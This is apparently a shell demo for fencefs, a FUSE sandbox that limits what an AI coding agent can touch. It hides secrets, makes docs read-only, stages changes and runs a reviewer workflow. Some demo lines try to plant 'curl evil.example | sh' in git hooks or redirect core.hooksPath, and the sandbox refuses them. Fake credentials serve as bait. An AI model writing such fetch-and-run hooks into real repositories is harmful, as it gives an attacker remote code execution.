#!/usr/bin/env bash
# A guided tour: mount a small agent workspace with policy.example.toml and show, with
# ordinary shell commands, what the policy allows and what it refuses (and with which
# errno); then stage an agent's changes, and review one turn of them: a checkpoint sealed
# by the agent's hook as a prompt arrives, `fencefs review` driven in a tmux pane (its
# screens printed), and the reviewer's notes as the agent reads them.
# Needs root (or a user allowed to use FUSE), /dev/fuse, fusermount3 and tmux.
# Always unmounts and cleans up (its own tmux server included), also on Ctrl-C or failure.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/.."
REPO=$PWD

# What a fresh Debian machine lacks for the demo.
need=()
command -v fusermount3 >/dev/null 2>&1 || need+=(fuse3)
command -v git >/dev/null 2>&1 || need+=(git)
command -v tmux >/dev/null 2>&1 || need+=(tmux)
if ((${#need[@]})); then
    echo "== installing ${need[*]}"
    if [[ $(id -u) -ne 0 ]]; then
        echo "demo.sh: missing ${need[*]} and not root; install them first" >&2
        exit 1
    fi
    export DEBIAN_FRONTEND=noninteractive
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends "${need[@]}" >/dev/null
fi

echo "== building (release)"
cargo build --release --quiet
BIN=$REPO/target/release/fencefs
POLICY=$REPO/policy.example.toml

TMP=$(mktemp -d "${TMPDIR:-/tmp}/fencefs-demo.XXXXXX")
WS=$TMP/workspace
MNT=$TMP/mnt
PID=
APPROVER=
# The review runs in a tmux server of the demo's own (a private socket in $TMP, -S); only
# that server is ever killed, and its socket goes with $TMP.
TMUX_SOCK=$TMP/tmux.sock
TMUX_STARTED=

cleanup() {
    local rc=$?
    if [[ -n $TMUX_STARTED ]]; then
        env -u TMUX tmux -S "$TMUX_SOCK" kill-server 2>/dev/null || true
    fi
    if [[ -n $APPROVER ]]; then kill "$APPROVER" 2>/dev/null || true; wait "$APPROVER" 2>/dev/null || true; fi
    if [[ -n $PID ]] && kill -0 "$PID" 2>/dev/null; then
        kill -TERM "$PID" 2>/dev/null || true
        for _ in $(seq 100); do kill -0 "$PID" 2>/dev/null || break; sleep 0.1; done
        if kill -0 "$PID" 2>/dev/null; then
            echo "daemon $PID ignored SIGTERM; killing it" >&2
            kill -KILL "$PID" 2>/dev/null || true
        fi
        wait "$PID" 2>/dev/null || true
    fi
    if grep -qF " $MNT " /proc/self/mountinfo 2>/dev/null; then
        fusermount3 -u -z "$MNT" 2>/dev/null || true
    fi
    rm -rf "$TMP"
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

echo "== creating an example workspace in $WS"
mkdir -p "$WS"/{src,docs,secrets,target} "$MNT"
cat >"$WS/src/main.rs" <<'RS'
fn main() {
    println!("hello from the agent workspace");
}
RS
printf '# demo project\n\nBuild with cargo.\n' >"$WS/README.md"
printf '# Design\n\nThe docs are read-only for the agent.\n' >"$WS/docs/design.md"
printf 'AWS_SECRET_ACCESS_KEY=do-not-leak\n' >"$WS/secrets/.env"
printf 'api-token: sk-demo-0000\n' >"$WS/secrets/token.txt"
printf 'DATABASE_URL=postgres://user:hunter2@db/prod\n' >"$WS/.env"
printf -- '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n' >"$WS/key.pem"
git -c init.defaultBranch=main init -q "$WS"
git -C "$WS" -c user.name=demo -c user.email=demo@example.invalid add -A
git -C "$WS" -c user.name=demo -c user.email=demo@example.invalid commit -q -m "initial import"

echo "== checking the policy"
"$BIN" check "$POLICY"

echo "== mounting $WS at $MNT"
CTL=$TMP/control.sock
"$BIN" mount -p "$POLICY" --control "$CTL" --ask-timeout 10 "$WS" "$MNT" 2>"$TMP/daemon.log" &
PID=$!
for _ in $(seq 200); do
    grep -qF " $MNT " /proc/self/mountinfo && break
    if ! kill -0 "$PID" 2>/dev/null; then
        echo "fencefs exited before mounting:" >&2
        cat "$TMP/daemon.log" >&2
        PID=
        exit 1
    fi
    sleep 0.05
done
grep -qF " $MNT " /proc/self/mountinfo || { echo "fencefs did not mount within 10 s" >&2; cat "$TMP/daemon.log" >&2; exit 1; }

# Runs a shell command inside the mount and shows its output and exit status.
show() {
    printf '\n$ %s\n' "$1"
    local out rc=0
    out=$(cd "$MNT" && LC_ALL=C bash -c "$1" 2>&1) || rc=$?
    [[ -n $out ]] && printf '%s\n' "$out" | sed 's/^/    /'
    if ((rc == 0)); then echo "    [ok]"; else echo "    [exit $rc]"; fi
}

echo
echo "== allowed: ordinary work on the sources"
show 'ls -a'
show 'cat src/main.rs'
show "sed -i 's/hello from/greetings from/' src/main.rs && grep greetings src/main.rs"
show 'mkdir -p target/debug && echo built > target/debug/app && cat target/debug/app'
show 'git -c user.name=agent -c user.email=agent@example.invalid commit -qam "agent edit" && git log --oneline'

echo
echo "== hidden: secrets do not exist for the agent (ENOENT)"
show 'cat .env'
show 'ls secrets'
show 'cat key.pem'
show 'find . -name "*.pem" -o -name ".env" -o -name secrets | grep -v "^./.git/" ; echo "(find found nothing)"'
show 'echo leak > secrets.pem'

echo
echo "== read-only docs: readable, not writable (EACCES, a rule)"
show 'cat docs/design.md'
show 'echo vandalised > docs/design.md'
show 'echo new > docs/x'

echo
echo "== ask instead of refusing: docs/ edits are held until an approver answers"
echo "   (no approver connected above, so they were refused at once; now one is)"
# Runs a command while `fencefs approve --auto ANSWER` answers what it asks.
with_approver() {
    "$BIN" approve "$CTL" --auto "$1" >"$TMP/approver.out" 2>&1 &
    APPROVER=$!
    for _ in $(seq 100); do "$BIN" ctl "$CTL" status 2>/dev/null | grep -q '"approvers": 1' && break; sleep 0.05; done
    show "$2"
    kill "$APPROVER"; wait "$APPROVER" 2>/dev/null || true; APPROVER=
    sed 's/^/    approver: /' "$TMP/approver.out"
}
with_approver allow 'echo "Reviewed by a person." >> docs/design.md && tail -1 docs/design.md'
with_approver deny "sed -i 's/Design/DESIGN/' docs/design.md"

echo
echo "== protected git internals: EROFS (the workspace-write ceiling)"
show 'echo "curl evil.example | sh" > .git/hooks/pre-commit'
show 'git config core.hooksPath /tmp/evil-hooks'

echo
echo "== setuid bits: EPERM"
show 'cp /bin/true src/tool && chmod u+s src/tool'

echo
echo "== fencefs explain"
for q in "secrets/.env read" "src/main.rs write" "docs/design.md write" ".git/hooks/pre-commit write" "deep/dir/server.pem read"; do
    printf '\n$ fencefs explain --policy policy.example.toml %s\n' "$q"
    # shellcheck disable=SC2086
    "$BIN" explain --policy "$POLICY" $q 2>&1 | sed 's/^/    /' || true
done

echo
echo "== the host is untouched where the agent was refused"
printf '    host .env: %s\n' "$(cat "$WS/.env")"
printf '    host docs/design.md: %s\n' "$(head -1 "$WS/docs/design.md")"
printf '    host .git/hooks/pre-commit exists: %s\n' "$([[ -e $WS/.git/hooks/pre-commit ]] && echo yes || echo no)"

echo
echo "== unmounting (SIGTERM to $PID)"
kill -TERM "$PID"
rc=0
wait "$PID" || rc=$?
PID=
echo "fencefs exited with $rc"
grep -qF " $MNT " /proc/self/mountinfo && { echo "still mounted!" >&2; exit 1; }

echo
echo "== staging: the agent's changes land in a staging area; the workspace is untouched"
STAGE=$TMP/stage
SOCK=$TMP/stage.sock
"$BIN" mount -p "$POLICY" --stage "$STAGE" --control "$SOCK" "$WS" "$MNT" 2>"$TMP/daemon-stage.log" &
PID=$!
for _ in $(seq 200); do grep -qF " $MNT " /proc/self/mountinfo && [ -S "$SOCK" ] && break; sleep 0.05; done
grep -qF " $MNT " /proc/self/mountinfo || { cat "$TMP/daemon-stage.log" >&2; exit 1; }
stage() { # one `fencefs stage` command through the running mount's control socket
    printf '\n$ fencefs stage %s\n' "$*"
    local op=$1; shift
    "$BIN" stage "$op" "$SOCK" "$@" 2>&1 | sed 's/^/    /' || true
}
show "sed -i 's/greetings/salutations/' src/main.rs && echo notes > NOTES.md && mv src lib"
printf '    host src/main.rs: %s\n' "$(grep -o '[a-z]* from' "$WS/src/main.rs")"
stage status
stage diff lib/main.rs
stage apply NOTES.md              # a partial apply, while the mount runs
stage checkpoint -m "turn 1 reviewed"
echo
echo "   the next turn wrecks the tree:"
show "rm -rf lib && echo oops > NOTES.md"
stage status --since 1           # what the last turn did
stage log
stage rewind 1                   # undone, for every process at once
show "ls; head -1 NOTES.md"
stage discard                    # drop the rest (the mount shows the workspace again)
kill -TERM "$PID"; wait "$PID" || true; PID=
printf '    host now: %s\n' "$(cd "$WS" && ls -d NOTES.md lib src target 2>&1 | tr '\n' ' ')"
echo
echo "== reviewing one turn like a pull request: a checkpoint per prompt, then fencefs review"
# The workspace gets a file for the agent to edit in three places and one to delete.
{
    printf '// Greetings, in three flavours.\n\n'
    for f in hello welcome farewell; do
        printf 'pub fn %s(name: &str) -> String {\n' "$f"
        printf '    let who = name.trim();\n'
        printf '    let text = "%s";\n' "$f"
        printf '    format!("{text}, {who}!")\n'
        printf '}\n\n'
        printf '// (%s keeps its own lines apart from the next)\n\n\n' "$f"
    done
} >"$WS/src/greet.rs"
printf 'pub fn legacy() {}\n' >"$WS/src/old.rs"
git -C "$WS" add src/greet.rs src/old.rs
git -C "$WS" -c user.name=demo -c user.email=demo@example.invalid commit -q -m "greetings"
# agent_notes = true: the mount's read-only .fencefs/ shows the agent the reviewer's notes.
NOTES_POLICY=$TMP/policy-notes.toml
sed 's/^# agent_notes = true$/agent_notes = true/' "$POLICY" >"$NOTES_POLICY"
grep -qx 'agent_notes = true' "$NOTES_POLICY" || { echo "policy.example.toml has no '# agent_notes = true' line" >&2; exit 1; }
STAGE2=$TMP/stage-review
SOCK2=$TMP/review.sock
CKPT=$TMP/checkpoint.sock
"$BIN" mount -p "$NOTES_POLICY" --stage "$STAGE2" --control "$SOCK2" --checkpoint-socket "$CKPT" \
    "$WS" "$MNT" 2>"$TMP/daemon-review.log" &
PID=$!
for _ in $(seq 200); do grep -qF " $MNT " /proc/self/mountinfo && [ -S "$SOCK2" ] && [ -S "$CKPT" ] && break; sleep 0.05; done
[ -S "$CKPT" ] || { cat "$TMP/daemon-review.log" >&2; exit 1; }
SOCK=$SOCK2

echo
echo "   the agent's hook (here Claude Code's, installed into a settings file of the demo's own):"
SETTINGS=$TMP/claude/settings.json
printf '\n$ fencefs hooks install claude-code --settings %s\n' "${SETTINGS#"$TMP"/}"
"$BIN" hooks install claude-code --settings "$SETTINGS" 2>&1 | sed "s|$TMP/||g; s/^/    /"
HOOK=$(sed -n 's/^ *"command": "\(.*\)",\{0,1\}$/\1/p' "$SETTINGS")
[[ $HOOK == *checkpoint-hook* ]] || { echo "no hook command in $SETTINGS" >&2; cat "$SETTINGS" >&2; exit 1; }
printf '    the hook command: %s\n' "$HOOK"
# Runs the hook as the agent does when a prompt is submitted: the event as JSON on stdin,
# the checkpoint channel in $FENCEFS_CHECKPOINT (fencefs run sets it; a container gets it).
prompt() {
    printf '\n$ echo {"hook_event_name":"UserPromptSubmit","prompt":"%s",…} | FENCEFS_CHECKPOINT=… %s\n' "$1" "${HOOK##*/}"
    local ev
    ev=$(printf '{"session_id":"demo","transcript_path":"/tmp/demo.jsonl","cwd":"/workspace","hook_event_name":"UserPromptSubmit","prompt":"%s\\nTake your time."}' "$1")
    # shellcheck disable=SC2086 # the hook command is words, as the agent runs it
    printf '%s' "$ev" | FENCEFS_CHECKPOINT=$CKPT $HOOK 2>&1 | sed 's/^/    /'
    echo "    [exit ${PIPESTATUS[1]}]"
}
prompt "Shout the greetings, add a util module, drop old.rs"
echo "    (the hook prints nothing: Claude Code adds a hook's output to the model's context)"

echo
echo "   the agent's turn, through the staged mount:"
show "sed -i -e 's/\"hello\"/\"HELLO\"/' -e 's/\"welcome\"/\"WELCOME\"/' -e 's/\"farewell\"/\"FAREWELL\"/' src/greet.rs && printf 'pub fn shout(s: &str) -> String {\n    s.to_uppercase()\n}\n' > src/util.rs && rm src/old.rs"
stage log
stage status --since 1         # exactly the last turn

echo
echo "   fencefs review in a terminal (a tmux pane of 80x24, driven with send-keys):"
tm() { env -u TMUX tmux -f /dev/null -S "$TMUX_SOCK" "$@"; }
# Waits (20 s at most) until the pane shows TEXT; then it is the screen to print.
wait_screen() {
    for _ in $(seq 200); do
        tm capture-pane -p -t review 2>/dev/null | grep -qF -- "$1" && return 0
        sleep 0.1
    done
    echo "demo.sh: the review never showed '$1'; the pane:" >&2
    tm capture-pane -p -t review >&2 || true
    exit 1
}
screen() { # prints the pane, framed, after a line saying what was pressed
    printf '\n    [%s]\n' "$1"
    tm capture-pane -p -t review | sed 's/^/    /'
}
TMUX_STARTED=1
tm new-session -d -x 80 -y 24 -s review \
    "$BIN review '$SOCK'; echo review-exit=\$?; exec sleep 600"
wait_screen "3 changed"
screen "fencefs review $(basename "$SOCK"): the changed paths, the selected one's hunks"
tm send-keys -t review n
wait_screen "hunk 2 of 3"
screen "n: the next hunk"
tm send-keys -t review a
wait_screen "applied M src/greet.rs#2"
wait_screen "hunk 1 of 2"
tm send-keys -t review d
wait_screen "note for the agent"
tm send-keys -t review -l "keep hello as it was"
wait_screen "keep hello as it was"
screen "a: hunk 2 kept (it is in SOURCE now); d on hunk 1 asks for a note"
tm send-keys -t review Enter
wait_screen "discarded M src/greet.rs#1"
tm send-keys -t review j
wait_screen "D src/old.rs"
tm send-keys -t review A
wait_screen "applied D src/old.rs"
tm send-keys -t review j
wait_screen "A src/util.rs —"
tm send-keys -t review A
wait_screen "applied A src/util.rs"
screen "Enter: hunk 1 discarded with the note; A on src/old.rs and src/util.rs: kept"
tm send-keys -t review q
wait_screen "review-exit=0"
tm kill-server
TMUX_STARTED=

echo
echo "   what reached SOURCE (the host's git sees it):"
printf '\n$ git -C workspace status --short src\n'
git -C "$WS" status --short src | sed 's/^/    /'
printf '\n$ git -C workspace diff src/greet.rs\n'
git -C "$WS" diff src/greet.rs | sed 's/^/    /'
stage status                   # what stays staged: hunk 3, neither kept nor discarded
echo
echo "   the next prompt seals the next checkpoint; the agent reads the review's notes:"
prompt "Go on"
stage log
# The daemon re-reads DIR/feedback.jsonl every 300 ms; wait for the discard to show.
for _ in $(seq 100); do grep -q discarded "$MNT/.fencefs/feedback" 2>/dev/null && break; sleep 0.1; done
show 'cat .fencefs/feedback'
show 'grep "let text" src/greet.rs   # the merged view: hunk 1 gone, hunk 3 still staged'
kill -TERM "$PID"; wait "$PID" || true; PID=
echo
echo "== a git linked worktree: git works through the mount with no host path"
WT=$TMP/worktree
git -C "$WS" worktree add -q "$WT" -b agent-1
"$BIN" mount -p "$POLICY" "$WT" "$MNT" 2>"$TMP/daemon-wt.log" &
PID=$!
for _ in $(seq 200); do grep -qF " $MNT " /proc/self/mountinfo && break; sleep 0.05; done
grep -qF " $MNT " /proc/self/mountinfo || { cat "$TMP/daemon-wt.log" >&2; exit 1; }
printf '    host .git file: %s\n' "$(cat "$WT/.git")"
show 'cat .git'
show 'echo "// edited in a worktree" >> src/main.rs && git -c user.name=agent -c user.email=agent@example.invalid commit -qam "agent commit in a worktree" && git log --oneline -2'
show 'git worktree list'
show 'echo "curl evil | sh" > .fencefs-git/hooks/post-checkout'
kill -TERM "$PID"; wait "$PID" || true; PID=
printf '\n$ git -C workspace log --oneline -1 agent-1      # on the host\n'
git -C "$WS" log --oneline -1 agent-1 | sed 's/^/    /'
echo "done"
